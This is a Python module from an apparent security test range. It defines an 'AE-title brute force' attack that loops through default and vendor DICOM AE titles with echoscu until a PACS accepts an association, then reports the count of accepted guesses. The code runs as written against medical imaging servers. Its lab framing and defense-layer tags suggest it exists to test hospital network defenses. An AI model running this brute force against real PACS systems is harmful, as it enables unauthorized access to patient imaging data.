"""AE-title brute force: guess calling and called AE titles until the PACS accepts (T1110)."""

from __future__ import annotations

from radguard.range.attacks.kit import Attack, Context, Outcome
from radguard.range.lab import dcmtk

#: a dictionary of AE titles from vendor manuals and defaults (none is a peer of the gateway)
GUESSES = ("ANY-SCP", "STORESCP", "ORTHANC", "PACS", "DCM4CHEE", "CONQUESTSRV1", "ECHOSCU", "ADMIN")


def run(ctx: Context) -> Outcome:
    host, port, _ = ctx.front
    tried = accepted = 0
    for calling in ("ADMIN", "ECHOSCU"):
        for called in GUESSES:
            tried += 1
            if dcmtk(["echoscu", "-aet", calling, "-aec", called, host, str(port)], timeout=10).returncode == 0:
                accepted += 1
    return Outcome(success=accepted > 0, impact={"associations_accepted": accepted, "guesses": tried},
                   note=f"{accepted}/{tried} guessed AE pairs accepted")


ATTACK = Attack(
    name="ae-brute-force", title="AE-title brute force", attack_ids=("T1110", "T0859"),
    precondition="network access to the PACS's DICOM port",
    objective="an association accepted with guessed AE titles", layers=("gateway", "monitor"), run=run)
